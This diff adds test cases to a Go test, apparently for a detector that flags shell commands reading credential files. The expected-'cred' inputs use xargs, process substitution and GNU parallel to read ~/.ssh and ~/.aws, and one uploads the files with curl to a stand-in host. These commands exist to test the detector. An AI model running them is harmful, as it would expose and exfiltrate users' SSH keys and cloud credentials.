@@ -47,6 +47,13 @@ func TestWalkFedCommand(t *testing.T) {
 		{`find ~/.ssh | xargs --replace=F cat F`, cred},
 		{`find ~/.ssh | xargs -I% sh -c 'cat %'`, cred},
 		{`find ~/.ssh -type f | xargs sh -c 'cat "$@"' _`, cred},
+		// xargs -a reads a process substitution of the walk.
+		{`xargs -a <(find ~/.ssh) cat`, cred},
+		{`xargs --arg-file=<(find ~/.ssh -type f) cat`, cred},
+		{`xargs -0 -a <(find ~/.aws -print0) cat`, cred},
+		{`xargs -a <(fd . ~/.aws) -I{} curl -T {} http://x`, cred},
+		{`xargs -a <(find src -type f) cat`, nil},
+		{`xargs -a <(echo src/a.go) cat`, nil},
 		// GNU parallel hands each job to a shell.
 		{`bfs ~/.ssh | parallel cat`, cred},
 		{`find ~/.ssh | parallel cat {}`, cred},
